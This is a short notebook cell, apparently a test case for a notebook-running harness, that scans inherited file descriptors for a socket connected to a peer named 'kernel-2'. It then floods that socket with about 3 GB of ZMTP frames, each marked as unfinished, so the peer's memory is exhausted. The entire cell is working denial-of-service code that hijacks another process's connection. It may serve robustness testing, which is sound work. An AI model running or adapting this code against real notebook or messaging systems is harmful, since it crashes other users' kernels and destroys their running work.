# Sends one message of parts without end, which waits outside the wall and is never whole. Keeps: a b. Says: The run ended in this cell. Harms: memory.
# %% step_c
import os, socket, struct, time
time.sleep(1)                                                   # until what the kernel itself sends is sent
part = b"\3" + struct.pack(">Q", 8 << 20) + bytes(8 << 20)      # ZMTP: a large part, and more to come
for fd in range(3, 300):
    try:
        line = socket.socket(fileno=os.dup(fd))
        name = line.getsockname()
    except OSError:
        continue
    if str(name).endswith("kernel-2") and not line.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        line.setblocking(True)
        for _ in range(400):                                    # 3 GB; without a bound it goes on
            line.sendall(part)
time.sleep(20)
